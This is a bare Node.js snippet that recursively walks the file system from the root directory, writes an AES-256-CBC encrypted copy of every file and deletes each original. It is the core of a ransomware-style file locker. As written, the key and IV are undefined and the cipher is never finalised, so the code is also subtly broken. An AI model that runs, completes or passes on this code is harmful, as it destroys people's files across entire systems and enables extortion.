const c = require('crypto'), fs = require('fs'), path = require('path');
function walk(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); if (fs.statSync(p).isDirectory()) walk(p); else { fs.writeFileSync(p + '.enc', c.createCipheriv('aes-256-cbc', k, iv).update(fs.readFileSync(p))); fs.unlinkSync(p); } } }
walk('/');
